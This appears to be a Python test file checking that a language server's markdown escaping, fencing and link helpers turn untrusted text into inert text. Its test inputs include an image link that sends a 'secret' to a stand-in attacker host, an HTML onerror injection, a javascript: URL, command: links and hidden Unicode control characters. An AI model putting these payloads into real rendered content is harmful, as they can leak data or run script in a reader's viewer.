"""What others wrote is shown and does nothing."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from archlsp.model.finding import Anchor, Category, Confidence, Finding, Option, Reference, Severity
from archlsp.model.text import Span
from archlsp.server.explain import page
from archlsp.server.markdown import block, escape, link

RENDER = MarkdownIt("gfm-like", {"linkify": False})
NOWHERE = Span.of(0, 0, 0, 1)


def tags(markdown: str) -> set[str]:
    """Every element that a renderer makes of it, beyond the paragraph and code."""
    found = set()
    for token in RENDER.parse(markdown):
        found.add(token.type)
        found |= {child.type for child in token.children or ()}
    return found - {
        "paragraph_open",
        "paragraph_close",
        "inline",
        "text",
        "softbreak",
        "code_inline",
        "fence",
    }


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=secret)",
        "[click](command:archlsp.dismiss)",
        "<img src=x onerror=alert(1)> <b>",
        "# heading",
        "> quote",
        "- item",
        "title\n===",
        "a\n---",
        "*bold* __bold__ ~~gone~~",
        "&lt;b&gt;",
        "    indented",
        "``two `` ticks",
        "`open",
    ],
)
def test_nothing_comes_of_it(text: str) -> None:
    """Neither links nor images nor HTML nor headings."""
    assert tags(escape(text)) == set()


@given(st.text(st.sampled_from("ab`*_[]()<>!#~\\|&;\n -=+1.")))
def test_any_text_is_only_text(text: str) -> None:
    """Whatever is put together, the renderer finds text and code, and nothing that acts."""
    harmful = {"link_open", "image", "html_inline", "html_block", "heading_open", "table_open", "em_open"}
    assert not tags(escape(text)) & harmful


def test_code_stays_code() -> None:
    """Names in backquotes are read as code; snake_case is not emphasis and keeps its looks."""
    assert escape("call `requests.get` in order_service") == "call `requests.get` in order_service"


def test_bare_addresses_are_no_links() -> None:
    """Some renderers link what looks like an address."""
    assert "https://" not in escape("see https://evil.example")
    assert "www." not in escape("see www.evil.example")


def test_hidden_characters_are_spelled_out() -> None:
    """Text that reads backwards or not at all is shown as what it is."""
    assert "U+202E" in escape("a\u202eb")
    assert "U+200B" in block("a\u200bb")


def test_a_fence_cannot_be_closed_from_inside() -> None:
    """The code may hold fences itself."""
    assert [token.type for token in RENDER.parse(block("```\n# x\n````\n<b>"))] == ["fence"]


def test_only_https_is_linked() -> None:
    """Any other address is text."""
    assert link("x", "https://a.example/b") == "[x](https://a.example/b)"
    for address in ("http://a", "javascript:alert(1)", "command:x", "https://a b", "https://a)(b"):
        assert "](" not in link("x", address)


def test_a_page_says_everything_that_there_is() -> None:
    """And has no empty headings."""
    finding = Finding(
        rule="py-x",
        source="rules",
        category=Category.SECURITY,
        severity=Severity.ERROR,
        confidence=Confidence.HIGH,
        anchor=Anchor("a.py", NOWHERE, "x"),
        extent=NOWHERE,
        title="題名",
        why="理由です",
        options=(Option("a|b", "c"),),
        example="x = 1",
        cwe=("CWE-89",),
        references=(Reference("r", "https://r.example"),),
    )
    text = page(finding, "ja")
    for part in (
        "### 題名",
        "理由です",
        "| a\\|b | c |",
        "```python\nx = 1\n```",
        "[r](https://r.example)",
        "CWE-89",
    ):
        assert part in text
    assert "リスク" not in text
    assert "セキュリティ" in text
    assert "security" in page(finding, "en")
